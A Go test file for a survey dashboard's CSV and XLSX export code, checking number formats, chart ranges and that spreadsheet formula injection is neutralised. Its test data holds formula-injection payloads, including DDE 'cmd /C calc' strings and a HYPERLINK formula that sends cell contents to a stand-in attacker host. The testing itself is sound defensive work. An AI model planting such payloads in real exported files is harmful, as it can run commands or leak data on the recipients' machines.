package charts

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"html"
	"io"
	"math"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"axdash/app/model"
)

func TestNeutraliseFormula(t *testing.T) {
	cases := []struct{ in, want string }{
		{"", ""},
		{"서울", "서울"},
		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{" =1", "' =1"},
		{"  \t+1", "'  \t+1"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\tplain", "'\tplain"},
		{"＝1", "'＝1"},
		{"a=b", "a=b"},
		{"100% 정밀", "100% 정밀"},
		{"   ", "   "},
		{"-5", "-5"},
		{"-5.25", "-5.25"},
		{"-5-1", "'-5-1"},
		{"|calc", "'|calc"},
		{"%0A=1", "'%0A=1"},
		{`""=1`, `'""=1`},
		{"+82-10-1234-5678", "'+82-10-1234-5678"},
	}
	for _, c := range cases {
		if got := NeutraliseFormula(c.in); got != c.want {
			t.Errorf("NeutraliseFormula(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// readCSV checks the BOM and parses the rest.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(b, []byte(utf8BOM)) {
		t.Fatalf("CSV does not start with a UTF-8 BOM: % x", b[:min(len(b), 8)])
	}
	recs, err := csv.NewReader(bytes.NewReader(b[len(utf8BOM):])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// TestCSVMatchesJSON writes every figure as CSV, parses it back and
// compares each cell with the figure's JSON rows.
func TestCSVMatchesJSON(t *testing.T) {
	c := newCatalogue(t)
	src := fullSource()
	src.cells = append(src.cells, rateCell("47", 2, 1, 1)) // a small region: suppressed cells
	for _, fig := range c.Figures() {
		tab, err := c.Build(context.Background(), src, fig.ID, model.Filter{WaveID: 2})
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if err := WriteCSV(&buf, tab, ExportMeta{}); err != nil {
			t.Fatal(err)
		}
		recs := readCSV(t, buf.Bytes())
		all := tab.Rows
		if tab.Total != nil {
			all = append(all[:len(all):len(all)], tab.Total)
		}
		js, _ := json.Marshal(all)
		var rows [][]any
		if err := json.Unmarshal(js, &rows); err != nil {
			t.Fatal(err)
		}
		if len(recs) != len(rows)+1 {
			t.Fatalf("%s: %d CSV lines, want %d", fig.ID, len(recs), len(rows)+1)
		}
		for i, col := range tab.Columns {
			if !strings.HasPrefix(recs[0][i], strings.TrimSuffix(DisplayLabel(col), ")")) {
				t.Errorf("%s header %d = %q, want it to start as %q", fig.ID, i, recs[0][i], DisplayLabel(col))
			}
		}
		for r, row := range rows {
			for i, col := range tab.Columns {
				got := recs[r+1][i]
				switch v := row[i].(type) {
				case nil:
					if got != "" {
						t.Errorf("%s row %d %s: suppressed cell is %q, want empty", fig.ID, r, col.Key, got)
					}
				case float64:
					want := v
					if col.Unit == "원" {
						want = v / 1e6
					}
					// Rounded as the page shows it: the same digits as Display.
					f, err := strconv.ParseFloat(got, 64)
					if err != nil || strings.ReplaceAll(Display(col, v), ",", "") != got || math.Abs(f-want) > 0.05 {
						t.Errorf("%s row %d %s = %q, want %v as the page shows it (%s)", fig.ID, r, col.Key, got, want, Display(col, v))
					}
				case string:
					if want := NeutraliseFormula(ExportValue(col, v).(string)); got != want {
						t.Errorf("%s row %d %s = %q, want %q", fig.ID, r, col.Key, got, want)
					}
				}
			}
		}
	}
}

// hostileTable is a table whose text cells are formula payloads, beside a
// negative number.
func hostileTable() *Table {
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"클릭")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		" =1", "\t=1+1", "\r=1+1", "평범한 기업"}
	t := &Table{Figure: Figure{ID: "exemplar-firms", Title: "AI 도입 우수사례 기업"},
		Columns: []Column{{Key: "firm_name", Label: "기업명"}, {Key: "productivity_gain", Label: "생산성 향상률", Unit: "%"},
			{Key: "mean_cost", Label: "평균 도입비용", Unit: "원"}},
		N: len(payloads), Notes: []string{"=1+1 주석", "출처: 테스트"}}
	for i, p := range payloads {
		t.Rows = append(t.Rows, []any{p, float64(-5), float64(i) * 1.5e6})
	}
	t.Rows = append(t.Rows, []any{"비공개 칸", nil, nil})
	return t
}

func TestCSVNeutralisesPayloads(t *testing.T) {
	tab := hostileTable()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, tab, ExportMeta{}); err != nil {
		t.Fatal(err)
	}
	recs := readCSV(t, buf.Bytes())
	for i, rec := range recs[1 : len(recs)-1] {
		raw := Clean(tab.Rows[i][0].(string))
		name := rec[0]
		trimmed := strings.TrimLeft(name, " \t\r")
		if raw != "평범한 기업" && !strings.HasPrefix(name, "'") {
			t.Errorf("payload %q written as %q, not neutralised", tab.Rows[i][0], name)
		}
		if strings.ContainsAny(trimmed[:1], "=+-@") {
			t.Errorf("cell %q starts with a formula character", name)
		}
		if rec[1] != "-5.0" {
			t.Errorf("negative number written as %q, want -5.0", rec[1])
		}
		if want := strconv.FormatFloat(float64(i)*1.5, 'f', 1, 64); rec[2] != want {
			t.Errorf("money written as %q, want %s (백만원)", rec[2], want)
		}
	}
	last := recs[len(recs)-1]
	if last[1] != "" || last[2] != "" {
		t.Errorf("suppressed cells written as %q", last)
	}
	if recs[0][2] != "평균 도입비용(백만원, 소수 첫째 자리)" {
		t.Errorf("money header = %q", recs[0][2])
	}
}

// zipPart reads one part of an xlsx.
func zipPart(t *testing.T, b []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := zr.Open(name)
	if err != nil {
		t.Fatalf("part %s: %v", name, err)
	}
	defer f.Close()
	data, _ := io.ReadAll(f)
	return string(data)
}

// findRow returns the 1-based row whose first cell is s.
func findRow(t *testing.T, x *excelize.File, sheet, s string) int {
	t.Helper()
	rows, err := x.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range rows {
		if len(r) > 0 && r[0] == s {
			return i + 1
		}
	}
	t.Fatalf("sheet %s has no row starting %q", sheet, s)
	return 0
}

// xlsxOf is tab's workbook as WriteXLSX writes it.
func xlsxOf(t *testing.T, tab *Table, meta ExportMeta) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, tab, meta); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// openXLSX opens a written workbook, closed when the test ends, and names
// its first sheet.
func openXLSX(t *testing.T, data []byte) (*excelize.File, string) {
	t.Helper()
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = x.Close() })
	return x, x.GetSheetList()[0]
}

// findHeader returns the 1-based row holding the table's header.
func findHeader(t *testing.T, x *excelize.File, sheet string, tab *Table) int {
	t.Helper()
	rows, err := x.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
next:
	for i, r := range rows {
		if len(r) < len(tab.Columns) {
			continue
		}
		for j, col := range tab.Columns {
			if r[j] != DisplayLabel(col) {
				continue next
			}
		}
		return i + 1
	}
	t.Fatalf("sheet %s has no table header", sheet)
	return 0
}

func numFmtOf(t *testing.T, x *excelize.File, sheet, cell string) string {
	t.Helper()
	id, err := x.GetCellStyle(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	st, err := x.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	if st.CustomNumFmt == nil {
		return ""
	}
	return *st.CustomNumFmt
}

func TestXLSXFigure(t *testing.T) {
	c := newCatalogue(t)
	meta := ExportMeta{Wave: "2026-H1", Filters: []string{"서울특별시"}, Source: "테스트 조사"}
	cases := []struct {
		id       string
		chart    string // the c:...Chart element
		cat, val string // first series' ranges
	}{
		{"adoption-by-region", "<barChart>", "$B$", "$D$"},
		{"cost-by-size", "<barChart>", "$A$", "$C$"},
		{"adoption-stage-by-region", "<barChart>", "$B$", "$D$"},
		{"barriers", "<barChart>", "$B$", "$D$"},
		{"adoption-trend", "<lineChart>", "$J$", "$K$"}, // the pivot, beside the table (with its precision) and its 상태 column
		{"cost-trend", "<lineChart>", "$J$", "$K$"},     // the same, its pivot in 백만원 as the table's cells
	}
	for _, tc := range cases {
		t.Run(tc.id, func(t *testing.T) {
			tab, err := c.Build(context.Background(), fullSource(), tc.id, model.Filter{WaveID: 2})
			if err != nil {
				t.Fatal(err)
			}
			data := xlsxOf(t, tab, meta)
			x, sheet := openXLSX(t, data)
			if sheet != SheetName(tab.Figure.Title) {
				t.Errorf("sheet = %q", sheet)
			}
			if v, _ := x.GetCellValue(sheet, "A1"); v != tab.Figure.Title {
				t.Errorf("A1 = %q, want the title", v)
			}
			for _, label := range []string{"조사 차수", "필터", "응답 기업 수(n)", "출처", "주"} {
				findRow(t, x, sheet, label)
			}
			header := findHeader(t, x, sheet, tab)
			chart := html.UnescapeString(zipPart(t, data, "xl/charts/chart1.xml"))
			if !strings.Contains(chart, tc.chart) {
				t.Errorf("chart1.xml has no %s", tc.chart)
			}
			quoted := "'" + sheet + "'!"
			first, last := header+1, header+len(tab.Rows)
			if tab.Figure.Trend {
				p := pivotTrend(tab)
				last = header + len(p.waves)
				// The pivot's first value is the table's, in the unit of the export.
				vcol := tab.Columns[colIndex(tab, trendKey(tab))]
				want, _ := number(ExportValue(vcol, p.rate[[2]int{0, 0}]))
				got, _ := x.GetCellValue(sheet, strings.Trim(tc.val, "$")+strconv.Itoa(first), excelize.Options{RawCellValue: true})
				if g, err := strconv.ParseFloat(got, 64); err != nil || math.Abs(g-want) > 1e-9 {
					t.Errorf("pivot's first value %q, want %v", got, want)
				}
			}
			for _, want := range []string{quoted + tc.cat + strconv.Itoa(first) + ":" + tc.cat + strconv.Itoa(last),
				quoted + tc.val + strconv.Itoa(first) + ":" + tc.val + strconv.Itoa(last)} {
				if !strings.Contains(chart, want) {
					t.Errorf("chart1.xml does not reference %s", want)
				}
			}
			for i, col := range tab.Columns {
				if col.Unit == "" {
					continue
				}
				for r, row := range tab.Rows {
					if row[i] == nil {
						continue
					}
					cell, _ := excelize.CoordinatesToCellName(i+1, header+1+r)
					if got, want := numFmtOf(t, x, sheet, cell), numFmt(col.Unit); got != want {
						t.Errorf("%s (%s) number format = %q, want %q", cell, col.Key, got, want)
					}
					if typ, _ := x.GetCellType(sheet, cell); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
						t.Errorf("%s is not a number cell (%v)", cell, typ)
					}
					break
				}
			}
		})
	}
}

func TestXLSXStoresHostileTextAsText(t *testing.T) {
	tab := hostileTable()
	data := xlsxOf(t, tab, ExportMeta{Wave: "=1+1", Filters: []string{"@x"}, Source: "+src"})
	x, sheet := openXLSX(t, data)
	header := findHeader(t, x, sheet, tab)
	for r, row := range tab.Rows[:len(tab.Rows)-1] {
		cell, _ := excelize.CoordinatesToCellName(1, header+1+r)
		if f, _ := x.GetCellFormula(sheet, cell); f != "" {
			t.Errorf("%s holds a formula %q", cell, f)
		}
		typ, _ := x.GetCellType(sheet, cell)
		if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
			t.Errorf("%s type = %v, want a string", cell, typ)
		}
		if v, _ := x.GetCellValue(sheet, cell); v != Clean(row[0].(string)) {
			t.Errorf("%s = %q, want %q", cell, v, Clean(row[0].(string)))
		}
		num, _ := excelize.CoordinatesToCellName(2, header+1+r)
		if v, _ := x.GetCellValue(sheet, num, excelize.Options{RawCellValue: true}); v != "-5" {
			t.Errorf("%s = %q, want the number -5", num, v)
		}
	}
	body := zipPart(t, data, "xl/worksheets/sheet1.xml")
	if strings.Contains(body, "<f>") || strings.Contains(body, "<f ") {
		t.Error("the sheet holds a formula element")
	}
}

func TestBriefingWorkbook(t *testing.T) {
	b, tables, hs := briefingBook(t, func([]any, int) bool { return true })
	x, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	sheets := x.GetSheetList()
	if len(sheets) != len(tables)+1 || sheets[0] != "요약" {
		t.Fatalf("sheets = %q", sheets)
	}
	row := findRow(t, x, "요약", hs[0].Trend.Label)
	if v, _ := x.GetCellValue("요약", "B"+strconv.Itoa(row), excelize.Options{RawCellValue: true}); v == "" {
		t.Errorf("headline %s has no value", hs[0].Trend.Label)
	}
	for i := range tables {
		zipPart(t, b, "xl/charts/chart"+strconv.Itoa(i+1)+".xml")
	}
}

func TestImageNameInOption(t *testing.T) {
	c := newCatalogue(t)
	cases := []struct{ id, name, want string }{
		{"adoption-by-region", "", `"name":"adoption-by-region"`},
		{"adoption-by-region", ExportName("adoption-by-region", "2026-H1", "48"), `"name":"adoption-by-region_2026-H1_48"`},
		{"adoption-trend", ExportName("adoption-trend", "2026-H1", "", "C"), `"name":"adoption-trend_2026-H1_C"`},
		{"region-tiles", ExportName("region-tiles", "W"), `"name":"region-tiles_W"`},
	}
	for _, tc := range cases {
		tab, err := c.Build(context.Background(), fullSource(), tc.id, model.Filter{WaveID: 2})
		if err != nil {
			t.Fatal(err)
		}
		tab.ImageName = tc.name
		b, err := c.Option(tab, "caption")
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(b), tc.want) {
			t.Errorf("%s option lacks %s", tc.id, tc.want)
		}
	}
}
